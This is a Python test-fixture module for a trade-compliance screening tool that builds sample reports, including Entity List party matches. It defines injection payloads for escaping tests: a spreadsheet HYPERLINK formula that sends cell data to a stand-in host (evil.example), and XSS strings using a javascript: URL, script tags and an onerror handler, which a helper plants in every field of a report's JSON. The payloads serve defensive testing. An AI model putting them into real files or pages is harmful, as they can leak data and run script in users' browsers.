"""Reports for the format and gate tests: a real one from the BOM example, and a
hand-built one with party findings (list matches) and hostile text in every field."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from compliance.model.finding import Finding, FindingStatus, Match, Subject, fingerprint
from compliance.report.build import build_report
from compliance.model.report import InputProvenance, ListProvenance, RecordRef, Report
from compliance.rulepacks.loader import load_rules
from compliance.rulepacks.schema import Citation, Outcome, RuleKind, Severity
from compliance.rulepacks.timeline import Scenario
from compliance.pipeline import screen_bom

REPO = Path(__file__).resolve().parent.parent
EXAMPLE = REPO / "examples" / "ev-traction-motor.csv"
STAMP = dt.datetime(2026, 1, 1, 12, 0, tzinfo=dt.timezone.utc)


def example_report(as_of: str = "2026-01-01", fail_on: str = "high") -> Report:
    """The EV traction motor BOM screened in-process (paths relative, as a CI run gives them)."""
    result = screen_bom(EXAMPLE, rules=load_rules(), as_of=dt.date.fromisoformat(as_of), scenario=Scenario.AS_WRITTEN,
                        display_name="examples/ev-traction-motor.csv")
    return build_report(result, fail_on=fail_on, generated_at=STAMP)


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click") | <script>alert(1)</script>'


def party_finding(name: str, row: int, severity: Severity, entry: str, score: float = 97.0, status=FindingStatus.OPEN) -> Finding:
    rule = "US-BIS-ENTITY-LIST"
    return Finding(
        fingerprint=fingerprint(rule, name, entry),
        rule_id=rule,
        kind=RuleKind.LISTED_PARTY,
        severity=severity,
        outcome=Outcome.LICENSE_REQUIRED,
        status=status,
        message=f"{name} matches an Entity List entry: licence required for all items subject to the EAR",
        subject=Subject(file="suppliers.csv", row=row, field="name", value=name, party_name=name, party_id=f"S-{row}"),
        match=Match(list="entity-list", entry_id=entry, name="HUAWEI TECHNOLOGIES CO., LTD.", matched_name=name, score=score, explanation="token-set 97; legal form 'Co., Ltd.' ignored"),
        evidence={"country": "CN", "aliases": ["Huawei", "华为技术有限公司"]},
        citation=Citation(document="15 CFR Part 744, Supplement No. 4", article="Huawei entry", url="https://www.ecfr.gov/current/title-15/part-744/appendix-Supplement%20No.%204%20to%20Part%20744"),
    )


def party_report(findings: list[Finding] | None = None, fail_on: str = "high") -> Report:
    findings = findings if findings is not None else [
        party_finding("Huawei Technologies Co Ltd", 2, Severity.HIGH, "el-huawei-1"),
        party_finding(HOSTILE, 3, Severity.MEDIUM, "el-evil-2", score=88.5),
        party_finding("-2+3 Trading, Inc.", 4, Severity.LOW, "el-minus-3", score=86),
    ]
    from compliance.model.report import Provenance, Tool, summarize

    inputs = [
        InputProvenance(
            path="suppliers.csv", kind="parties", sha256="0" * 64, rows_read=5, rows_screened=5, rows_rejected=0,
            records=[RecordRef(row=r, id=f"S-{r}") for r in range(2, 7)],
        )
    ]
    return Report(
        tool=Tool(version="0.1.0"),
        generated_at="2026-01-01T12:00:00Z",
        as_of="2026-01-01",
        scenario="as-written",
        fail_on=fail_on,
        provenance=Provenance(
            inputs=inputs,
            lists=[ListProvenance(id="entity-list", snapshot_date="2025-12-20", sha256="1" * 64, records=3000, source="CSL JSON")],
        ),
        summary=summarize(findings, inputs),
        findings=findings,
    )


#: what an attacker would put in a JSON report handed to `report render`: a URL scheme that
#: runs script, markup that closes an attribute or element and opens a script, an inline handler
XSS = 'javascript:window.__xss=1//"\'><script>window.__xss=1</script><img src=x onerror="window.__xss=1">'


def hostile_report_data(report: Report | None = None) -> dict:
    """A report's JSON with XSS in every string field the report schema accepts it in
    (a field whose type refuses it, such as a date or an enum, keeps its value)."""
    import json

    from compliance.model.base import DataError, validate
    from compliance.report.interface import RenderOptions
    from compliance.report.registry import get_format

    report = report or party_report()
    data = json.loads(get_format("json").render(report, RenderOptions(color=False)))
    prov = data["provenance"]
    prov["waivers"] = [{
        "id": "W-1", "rule": "US-*", "file": "w.yaml", "line": 3, "approved_by": "a", "approved_on": "2026-01-01",
        "expires": "2026-06-01", "justification": "j", "state": "active", "matched": ["x"],
    }]
    prov["waiver_file"] = "w.yaml"
    prov["baseline"] = {"path": "b.json", "sha256": "2" * 64, "fingerprints": 1, "matched": 1}
    prov["settings"] = {"fail_on": "high"}
    prov["lists"][0]["downloads"] = [{"url": "https://example.org/l.json", "sha256": "3" * 64, "bytes": 1, "insecure": False}]
    prov["files"] = [{"role": "price table", "path": "prices.yaml", "sha256": "4" * 64}]
    data["rejected"] = [{"file": "suppliers.csv", "row": 7, "field": "name", "reason": "empty"}]
    data["notices"], data["warnings"] = ["n"], ["w"]
    if "waiver" in data["findings"][0]:
        data["findings"][0]["waiver"] = "W-1"

    def poison(node):
        if isinstance(node, dict):
            return {k: poison(v) for k, v in node.items()}
        if isinstance(node, list):
            return [poison(v) for v in node]
        return XSS if isinstance(node, str) else node

    hostile = poison(data)
    hostile["schema_version"], hostile["fail_on"] = data["schema_version"], data["fail_on"]  # load_report checks both
    for _ in range(200):  # put back the values whose type refuses the payload, one error at a time
        try:
            validate(Report, hostile)
            return hostile
        except DataError as exc:
            loc = [p for p in exc.errors[0]["loc"] if not (isinstance(p, str) and p[:1].isupper() or p in ("function-after", "function-plain"))]
            source, target = data, hostile
            for part in loc[:-1]:
                source, target = source[part], target[part]
            if target.get(loc[-1]) == source.get(loc[-1]) if isinstance(target, dict) else False:
                raise
            target[loc[-1]] = source[loc[-1]]
    raise AssertionError("the report schema refused too many fields")
